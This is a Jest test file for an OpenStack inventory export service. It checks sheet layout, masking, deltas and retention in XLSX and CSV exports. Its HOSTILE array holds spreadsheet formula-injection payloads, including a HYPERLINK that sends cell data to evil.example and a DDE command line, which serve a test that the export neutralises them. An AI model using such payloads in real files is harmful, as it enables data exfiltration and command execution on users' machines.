import { mockServices, TestDatabases } from '@backstage/backend-test-utils';
import type { Simulator } from '@internal/openstack-sim';
import { createHash } from 'crypto';
import { promises as fs } from 'fs';
import { Knex } from 'knex';
import os from 'os';
import path from 'path';
import {
  migrated,
  simEngine,
  startTinySim,
} from '../inventory/__testUtils__/harness';
import { closeSharedAgents } from '../openstack';
import { simCloud } from '../openstack/__testUtils__/sim';
import {
  Cell,
  readCsvZip,
  readXlsx,
  table,
  Workbook,
} from './__testUtils__/read';
import { computeDelta } from './delta';
import { ExportRequest, ExportService } from './service';
import { SHEET_ORDER } from './sheets';

jest.setTimeout(180_000);

const databases = TestDatabases.create({ ids: ['POSTGRES_15', 'SQLITE_3'] });
const USER = 'user:default/tester';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
];

const INVENTORY_TABLES: Array<[string, string[]]> = [
  ['inventory_runs', ['id']],
  ['inventory_resources', ['cloud_id', 'type', 'id']],
  ['inventory_versions', ['seq']],
  ['inventory_deletions', ['seq']],
];

/** Row count and a hash of every row of the inventory tables. */
async function fingerprint(db: Knex) {
  const out: Record<string, { count: number; hash: string }> = {};
  for (const [name, order] of INVENTORY_TABLES) {
    const rows = await db(name).orderBy(order).select();
    out[name] = {
      count: rows.length,
      hash: createHash('sha256').update(JSON.stringify(rows)).digest('hex'),
    };
  }
  return out;
}

/** The Summary's preamble is 8 lines and one empty line; its header is row 10. */
const SUMMARY_HEADER_ROW = 9;

describe('inventory export', () => {
  let sim: Simulator;
  let dir: string;

  beforeEach(async () => {
    sim = await startTinySim();
    dir = await fs.mkdtemp(path.join(os.tmpdir(), 'pf9-export-test-'));
  });
  afterEach(async () => {
    await sim.close();
    await fs.rm(dir, { recursive: true, force: true });
  });
  afterAll(() => closeSharedAgents());

  it('runs on PostgreSQL when the test command provides it', () => {
    const required = process.env.PF9_REQUIRE_POSTGRES === '1';
    expect(!required || databases.supports('POSTGRES_15')).toBe(true);
  });

  function service(db: Knex) {
    return new ExportService({
      db,
      logger: mockServices.logger.mock(),
      clouds: [simCloud(sim, { region: 'RegionOne' })],
      directory: dir,
      retentionDays: 7,
      productVersion: '0.1.0-test',
    });
  }

  async function exportFile(
    exports: ExportService,
    request: Omit<ExportRequest, 'cloudId'>,
  ) {
    const { record, done } = await exports.create(
      { cloudId: 'sim', ...request },
      { actor: USER },
    );
    await done;
    const after = await exports.get(record.exportId);
    expect(after).toMatchObject({ status: 'done', error: null });
    const file = await exports.file(record.exportId);
    const chunks: Buffer[] = [];
    for await (const chunk of file!.stream as AsyncIterable<Buffer>)
      chunks.push(chunk);
    return { record: after!, buffer: Buffer.concat(chunks) };
  }

  async function setup(id: Parameters<typeof databases.init>[0]) {
    const db = await migrated(await databases.init(id));
    const engine = simEngine(db, sim);
    const run = await engine.run('sim', 'on_demand', USER);
    expect(run.status).toBe('succeeded');
    return { db, engine, run, exports: service(db) };
  }

  function scopedDomain() {
    return sim.state.projects.all().find(p => p.domain_id !== 'default')!
      .domain_id as string;
  }

  it.each(databases.eachSupportedId())(
    'neutralises formula injection in names of stored resources in XLSX and CSV, and keeps negative numbers numeric (EXP-9), on %p',
    async id => {
      const servers = sim.state.servers.all().slice(0, HOSTILE.length);
      HOSTILE.forEach((name, i) => {
        (servers[i] as any).name = name;
      });
      const { exports } = await setup(id);

      const xlsx = await readXlsx(
        (
          await exportFile(exports, { format: 'xlsx', masking: 'none' })
        ).buffer,
      );
      const serversSheet = table(xlsx.sheets.Servers);
      const byId = new Map(
        serversSheet.data.map(r => [
          r[0],
          r[serversSheet.header.indexOf('Name')],
        ]),
      );
      HOSTILE.forEach((name, i) => {
        expect(byId.get(servers[i].id)).toBe(`'${name}`);
      });
      // the same names as references on other sheets
      const nics = table(xlsx.sheets.ServerNICs);
      const nicNames = new Set(nics.col('Server'));
      const withPorts = HOSTILE.filter((_name, i) =>
        sim.state.ports.all().some(p => p.device_id === servers[i].id),
      );
      expect(withPorts.length).toBeGreaterThan(0);
      expect(withPorts.filter(name => !nicNames.has(`'${name}`))).toEqual([]);
      const quotas = table(xlsx.sheets.ProjectQuotas);
      const limits = quotas.col('Limit');
      expect(limits).toContain(-1);
      expect(limits.every(v => v === null || typeof v === 'number')).toBe(true);

      const csv = await readCsvZip(
        (
          await exportFile(exports, { format: 'csv', masking: 'none' })
        ).buffer,
      );
      const csvServers = csv.Servers;
      const nameIndex = csvServers[0].indexOf('Name');
      const csvNames = new Map(
        csvServers.slice(1).map(r => [r[0], r[nameIndex]]),
      );
      HOSTILE.forEach((name, i) => {
        expect(csvNames.get(servers[i].id)).toBe(`'${name}`);
      });
      const csvLimits = csv.ProjectQuotas.slice(1).map(
        r => r[csv.ProjectQuotas[0].indexOf('Limit')],
      );
      expect(csvLimits).toContain('-1');
      expect(csvLimits).not.toContain("'-1");
    },
  );

  it.each(databases.eachSupportedId())(
    'writes every sheet in EXP-3 order with fixed columns, in XLSX and CSV, on %p',
    async id => {
      const { engine, run, exports } = await setup(id);
      const second = await engine.run('sim', 'on_demand', USER);
      const xlsx = await readXlsx(
        (
          await exportFile(exports, {
            format: 'xlsx',
            masking: 'none',
            runId: second.id,
            compareToRunId: run.id,
          })
        ).buffer,
      );
      expect(xlsx.names).toEqual([...SHEET_ORDER]);
      const header = (name: string) =>
        table(xlsx.sheets[name], name === 'Summary' ? SUMMARY_HEADER_ROW : 0)
          .header;
      const TAIL = [
        'Project',
        'Project ID',
        'Domain',
        'Domain ID',
        'Cloud',
        'Region',
      ];
      expect(header('Servers')).toEqual([
        'Server ID',
        'Name',
        'Status',
        'VM State',
        'Power State',
        'Created',
        'Launched',
        'Flavor',
        'Flavor ID',
        'vCPUs',
        'RAM (MB)',
        'Root Disk (GB)',
        'Ephemeral (GB)',
        'Swap (MB)',
        'Boot Source',
        'Image',
        'Image ID',
        'Key Pair',
        'Availability Zone',
        'Hypervisor',
        'Host ID',
        'Instance Name',
        'Fixed IPs',
        'Floating IPs',
        'Networks',
        'Security Groups',
        'Attached Volumes',
        'Volume Count',
        'Volume GB',
        'Server Groups',
        'Locked',
        'Tags',
        'Metadata',
        'User ID',
        'Fault',
        ...TAIL,
      ]);
      expect(header('ServerNICs')).toEqual([
        'Server ID',
        'Server',
        'Port ID',
        'Network',
        'Network ID',
        'Subnet ID',
        'IP Address',
        'IP Version',
        'MAC',
        'Floating IP',
        'Security Groups',
        'Port Status',
        ...TAIL,
      ]);
      expect(header('ServerVolumes')).toEqual([
        'Server ID',
        'Server',
        'Volume ID',
        'Volume',
        'Device',
        'Boot Volume',
        'Size (GB)',
        'Volume Type',
        'Status',
        ...TAIL,
      ]);
      expect(header('Volumes')).toEqual([
        'Volume ID',
        'Name',
        'Status',
        'Size (GB)',
        'Volume Type',
        'Bootable',
        'Encrypted',
        'Multiattach',
        'Availability Zone',
        'Attached To',
        'Attached Server IDs',
        'Device',
        'Source Snapshot ID',
        'Source Volume ID',
        'Image ID',
        'Backend Host',
        'auto_snapshot',
        'snapshot_policies',
        'Retention',
        'Protection Source',
        'Created',
        'Metadata',
        ...TAIL,
      ]);
      expect(header('Snapshots')).toEqual([
        'Snapshot ID',
        'Name',
        'Description',
        'Status',
        'Size (GB)',
        'Volume ID',
        'Volume',
        'Server',
        'Created',
        'Managed',
        'Policy',
        'Period',
        'Metadata',
        ...TAIL,
      ]);
      expect(header('Hypervisors')).toEqual([
        'Hypervisor ID',
        'Hostname',
        'Host IP',
        'Type',
        'Version',
        'State',
        'Status',
        'Disabled Reason',
        'vCPUs',
        'vCPUs Used',
        'vCPU Ratio',
        'RAM (MB)',
        'RAM Used (MB)',
        'RAM Ratio',
        'Disk (GB)',
        'Disk Used (GB)',
        'Running VMs',
        'Aggregates',
        'Availability Zone',
        ...TAIL,
      ]);
      expect(header('ProjectQuotas')).toEqual([
        'Project',
        'Project ID',
        'Service',
        'Resource',
        'Limit',
        'In Use',
        'Reserved',
        'Utilisation %',
        ...TAIL,
      ]);
      expect(header('RoleAssignments')).toEqual([
        'Actor Type',
        'Actor',
        'Actor ID',
        'Actor Domain',
        'Role',
        'Role ID',
        'Scope Type',
        'Scope',
        'Scope ID',
        'Inherited',
        'Effective',
        ...TAIL,
      ]);
      expect(header('Summary')).toEqual([
        'Type',
        'Count',
        'Added',
        'Removed',
        'Changed',
        'Listing Status',
        'Data As Of',
      ]);
      expect(header('Health')).toEqual([
        'Severity',
        'Category',
        'Resource Type',
        'Resource ID',
        'Name',
        'Project',
        'Domain',
        'Message',
      ]);
      expect(header('Delta')).toEqual([
        'Change',
        'Type',
        'ID',
        'Name',
        'Field',
        'Old Value',
        'New Value',
        ...TAIL,
      ]);
      expect(header('Metadata')).toEqual(['Field', 'Value']);
      for (const name of SHEET_ORDER) {
        if (['Summary', 'Health', 'Delta', 'Metadata'].includes(name)) continue;
        expect(header(name).slice(-6)).toEqual(TAIL);
      }
      // an unchanged cloud: a Delta sheet with its header only, and Summary figures of zero
      expect(xlsx.sheets.Delta).toHaveLength(1);
      const summary = table(xlsx.sheets.Summary, SUMMARY_HEADER_ROW);
      expect(summary.col('Type')).toHaveLength(29);
      expect(summary.col('Added').every(v => v === 0)).toBe(true);
      expect(summary.col('Listing Status').every(v => v === 'complete')).toBe(
        true,
      );
      const servers = table(xlsx.sheets.Servers);
      expect(servers.data).toHaveLength(sim.state.servers.size);
      expect(summary.data.find(r => r[0] === 'Servers')?.[1]).toBe(
        sim.state.servers.size,
      );
      expect(new Set(servers.col('Cloud'))).toEqual(new Set(['sim']));
      expect(new Set(servers.col('Region'))).toEqual(new Set(['RegionOne']));
      expect(xlsx.sheets.Summary[3]).toEqual([
        'Run ID',
        second.id,
        ...Array(5).fill(null),
      ]);
      // the empty sheet keeps its header
      const backups = xlsx.sheets.Backups;
      expect(backups[0][0]).toBe('Backup ID');

      const csv = await readCsvZip(
        (
          await exportFile(exports, { format: 'csv', masking: 'none' })
        ).buffer,
      );
      expect(Object.keys(csv).sort()).toEqual(
        SHEET_ORDER.filter(n => n !== 'Delta').sort(),
      );
      expect(csv.Servers[0]).toEqual(header('Servers'));
      expect(csv.Summary[SUMMARY_HEADER_ROW]).toEqual(header('Summary'));
    },
  );

  /** Every sheet as rows, without the values that differ by design (export id, generated time). */
  function comparable(workbook: Workbook, skip: string[] = []) {
    const out: Record<string, Cell[][]> = {};
    for (const name of workbook.names) {
      if (skip.includes(name)) continue;
      out[name] = workbook.sheets[name].filter(
        r => !['Generated At', 'Export ID'].includes(String(r[0])),
      );
    }
    return out;
  }

  it.each(databases.eachSupportedId())(
    'rebuilds a run from versions: two exports of the same run and options have the same content, even after later syncs (EXP-2), on %p',
    async id => {
      const { engine, run, exports } = await setup(id);
      const request = {
        format: 'xlsx' as const,
        masking: 'none' as const,
        runId: run.id,
      };
      const first = await readXlsx((await exportFile(exports, request)).buffer);
      const again = await readXlsx((await exportFile(exports, request)).buffer);
      expect(comparable(again)).toEqual(comparable(first));

      // a later sync with real changes does not change the export of the earlier run
      const server = sim.state.servers.all()[0] as any;
      server.name = `${server.name}-renamed`;
      const volume = sim.state.volumes
        .all()
        .find(
          v =>
            !v.attachments.length &&
            !sim.state.snapshots.all().some(s => s.volume_id === v.id),
        )!;
      sim.state.volumes.remove(volume.id);
      const later = await engine.run('sim', 'on_demand', USER);
      expect(later.status).toBe('succeeded');
      const after = await readXlsx((await exportFile(exports, request)).buffer);
      // INV-7 measurements are current values only: those sheets are compared without them
      const measured = [
        'Hypervisors',
        'ComputeServices',
        'StoragePools',
        'IPAvailability',
        'ProjectQuotas',
      ];
      expect(comparable(after, measured)).toEqual(comparable(first, measured));
      const latest = await readXlsx(
        (
          await exportFile(exports, { format: 'xlsx', masking: 'none' })
        ).buffer,
      );
      const names = table(latest.sheets.Servers).col('Name');
      expect(names).toContain(server.name);
      expect(table(latest.sheets.Volumes).col('Volume ID')).not.toContain(
        volume.id,
      );
      expect(table(after.sheets.Volumes).col('Volume ID')).toContain(volume.id);
    },
  );

  it.each(databases.eachSupportedId())(
    'masks at render time only: the store is unchanged and the next sync records nothing (EXP-7), on %p',
    async id => {
      const { db, engine, exports } = await setup(id);
      const before = await fingerprint(db);
      for (const masking of ['partial', 'pseudonym'] as const) {
        for (const format of ['xlsx', 'csv'] as const) {
          await exportFile(exports, {
            format,
            masking,
            maskNames: true,
            maskIps: true,
            scope: { domainIds: [scopedDomain()] },
          });
        }
      }
      expect(await fingerprint(db)).toEqual(before);
      const next = await engine.run('sim', 'on_demand', USER);
      expect(next.status).toBe('succeeded');
      expect(next.deletionStats?.recorded).toBe(0);
      for (const t of next.types) {
        expect(t.written).toMatchObject({ created: 0, updated: 0 });
      }
      const [{ n }] = await db('inventory_versions')
        .where({ run_id: next.id })
        .count({ n: '*' });
      expect(Number(n)).toBe(0);
    },
  );

  it.each(databases.eachSupportedId())(
    'applies the masking rules: scope, infrastructure sheets and columns, consistent identifiers (EXP-8), on %p',
    async id => {
      const { exports } = await setup(id);
      const domain = scopedDomain();
      const projectsInScope = new Set(
        sim.state.projects.filter(p => p.domain_id === domain).map(p => p.id),
      );
      const serversInScope = sim.state.servers.filter(s =>
        projectsInScope.has(s.tenant_id),
      );
      expect(serversInScope.length).toBeGreaterThan(0);
      expect(serversInScope.length).toBeLessThan(sim.state.servers.size);

      const pseudo = await readXlsx(
        (
          await exportFile(exports, {
            format: 'xlsx',
            masking: 'pseudonym',
            scope: { domainIds: [domain] },
          })
        ).buffer,
      );
      expect(pseudo.names).toEqual(
        SHEET_ORDER.filter(
          n =>
            ![
              'Hypervisors',
              'ComputeServices',
              'Aggregates',
              'StoragePools',
              'Delta',
            ].includes(n),
        ),
      );
      const servers = table(pseudo.sheets.Servers);
      expect(servers.header).not.toContain('Metadata');
      expect(servers.header).not.toContain('Fault');
      expect(table(pseudo.sheets.Volumes).header).not.toContain('Metadata');
      expect(servers.data).toHaveLength(serversInScope.length);
      // names stay in clear without maskNames; ids become tokens
      expect(servers.col('Name').sort()).toEqual(
        serversInScope.map(s => s.name).sort(),
      );
      const tokens = servers.col('Server ID') as string[];
      for (const t of tokens) expect(t).toMatch(/^srv-[0-9a-f]{12}$/);
      const hosts = servers.col('Hypervisor').filter(h => h !== null);
      expect(hosts.length).toBeGreaterThan(0);
      for (const h of hosts) expect(h).toMatch(/^host-[0-9a-f]{12}$/);
      for (const p of servers.col('Project ID'))
        expect(p).toMatch(/^prj-[0-9a-f]{12}$/);
      expect(new Set(servers.col('Domain ID')).size).toBe(1);
      // the same server ids as references on other sheets
      const known = new Set(tokens);
      const refs = [
        ...(table(pseudo.sheets.ServerNICs).col('Server ID') as string[]),
        ...(table(pseudo.sheets.ServerVolumes).col('Server ID') as string[]),
        ...(table(pseudo.sheets.FloatingIPs)
          .col('Server ID')
          .filter(Boolean) as string[]),
        ...(
          table(pseudo.sheets.Volumes).col('Attached Server IDs') as Array<
            string | null
          >
        )
          .filter(Boolean)
          .flatMap(v => String(v).split('; ')),
      ];
      expect(refs.length).toBeGreaterThan(0);
      for (const r of refs) expect(known.has(r)).toBe(true);
      const volumeTokens = new Set(
        table(pseudo.sheets.Volumes).col('Volume ID'),
      );
      for (const v of table(pseudo.sheets.ServerVolumes).col('Volume ID'))
        expect(volumeTokens.has(v)).toBe(true);
      // nothing outside the scope, no clear id anywhere
      const text = JSON.stringify(pseudo.sheets);
      for (const s of sim.state.servers.all()) expect(text).not.toContain(s.id);
      for (const p of sim.state.projects.all())
        expect(text).not.toContain(`"${p.id}"`);
      const outside = sim.state.servers.filter(
        s => !projectsInScope.has(s.tenant_id),
      );
      for (const s of outside)
        expect(servers.col('Name')).not.toContain(s.name);

      // another file: other tokens for the same ids (random salt per export)
      const other = await readXlsx(
        (
          await exportFile(exports, {
            format: 'xlsx',
            masking: 'pseudonym',
            scope: { domainIds: [domain] },
          })
        ).buffer,
      );
      expect(table(other.sheets.Servers).col('Server ID')).not.toEqual(tokens);

      // partial masking, with names and IPs masked too
      const partial = await readXlsx(
        (
          await exportFile(exports, {
            format: 'xlsx',
            masking: 'partial',
            maskNames: true,
            maskIps: true,
            scope: { domainIds: [domain] },
          })
        ).buffer,
      );
      const pServers = table(partial.sheets.Servers);
      const expected = [...serversInScope].sort((a, b) =>
        a.id < b.id ? -1 : 1,
      );
      expect(pServers.col('Server ID')).toEqual(
        expected.map(s => `${s.id.slice(0, 2)}********${s.id.slice(-2)}`),
      );
      expect(pServers.col('Name')).toEqual(
        expected.map(s =>
          s.name.length < 6
            ? '********'
            : `${s.name.slice(0, 2)}********${s.name.slice(-2)}`,
        ),
      );
      const ips = pServers
        .col('Fixed IPs')
        .filter(Boolean)
        .flatMap(v => String(v).split('; '));
      expect(ips.length).toBeGreaterThan(0);
      for (const ip of ips) expect(ip).toMatch(/^.{2}\*{8}.{2}$|^\*{8}$/);
    },
  );

  it.each(databases.eachSupportedId())(
    'computes the delta between two syncs and shows it on the Delta sheet (EXP-10), on %p',
    async id => {
      const { db, engine, run, exports } = await setup(id);
      const server = sim.state.servers.all()[1] as any;
      const oldName = server.name;
      server.name = '=renamed';
      const volume = sim.state.volumes
        .all()
        .find(
          v =>
            !v.attachments.length &&
            !sim.state.snapshots.all().some(s => s.volume_id === v.id),
        )!;
      sim.state.volumes.remove(volume.id);
      const later = await engine.run('sim', 'on_demand', USER);
      const delta = await computeDelta(db, {
        cloudId: 'sim',
        from: run,
        to: later,
        types: ['server', 'volume', 'flavor'],
      });
      const servers = delta.types.find(t => t.type === 'server')!;
      expect(servers.status).toBe('ok');
      expect(servers.added).toEqual([]);
      expect(servers.changed.map(c => c.id)).toEqual([server.id]);
      expect(servers.changed[0].changedFields).toContainEqual({
        field: 'name',
        old: oldName,
        new: '=renamed',
      });
      const volumes = delta.types.find(t => t.type === 'volume')!;
      expect(volumes.removed.map(v => v.id)).toEqual([volume.id]);
      // INV-10: the volumes attached to the renamed server show its name, so they changed too
      const attached = sim.state.volumes
        .filter(v => v.attachments.some((a: any) => a.server_id === server.id))
        .map(v => v.id)
        .sort();
      expect(volumes.changed.map(v => v.id)).toEqual(attached);
      expect(volumes.counts).toEqual({
        added: 0,
        removed: 1,
        changed: attached.length,
      });
      expect(delta.types.find(t => t.type === 'flavor')!.counts).toEqual({
        added: 0,
        removed: 0,
        changed: 0,
      });

      const xlsx = await readXlsx(
        (
          await exportFile(exports, {
            format: 'xlsx',
            masking: 'none',
            compareToRunId: run.id,
          })
        ).buffer,
      );
      const sheet = table(xlsx.sheets.Delta);
      const rows = sheet.data.map(r => r.slice(0, 7));
      expect(rows).toContainEqual([
        'Removed',
        'volume',
        volume.id,
        volume.name,
        null,
        null,
        null,
      ]);
      expect(rows).toContainEqual([
        'Changed',
        'server',
        server.id,
        "'=renamed",
        'name',
        oldName,
        "'=renamed",
      ]);
      const summary = table(xlsx.sheets.Summary, SUMMARY_HEADER_ROW);
      const volumesLine = summary.data.find(r => r[0] === 'Volumes')!;
      expect(volumesLine.slice(2, 5)).toEqual([0, 1, attached.length]);
    },
  );

  it.each(databases.eachSupportedId())(
    'keeps files for the retention period, then deletes file and row; fails jobs whose instance died, on %p',
    async id => {
      const { db, exports } = await setup(id);
      const { record } = await exportFile(exports, {
        format: 'xlsx',
        masking: 'none',
      });
      const row = await db('inventory_exports')
        .where({ id: record.exportId })
        .first();
      await expect(fs.stat(row.file_path)).resolves.toBeTruthy();
      expect(await exports.maintain(new Date())).toEqual({
        pruned: 0,
        failed: 0,
      });
      await db('inventory_exports').insert({
        ...row,
        id: 'stale',
        status: 'running',
        file_path: null,
        heartbeat_at: new Date(Date.now() - 3_600_000),
        expires_at: new Date(Date.now() + 30 * 86_400_000),
      });
      const later = new Date(Date.now() + 8 * 86_400_000);
      expect(await exports.maintain(later)).toEqual({ pruned: 1, failed: 1 });
      expect(await exports.get(record.exportId)).toBeUndefined();
      await expect(fs.stat(row.file_path)).rejects.toThrow();
      expect(await exports.get('stale')).toMatchObject({
        status: 'failed',
        error: expect.stringMatching(/interrupted/),
      });
    },
  );
});
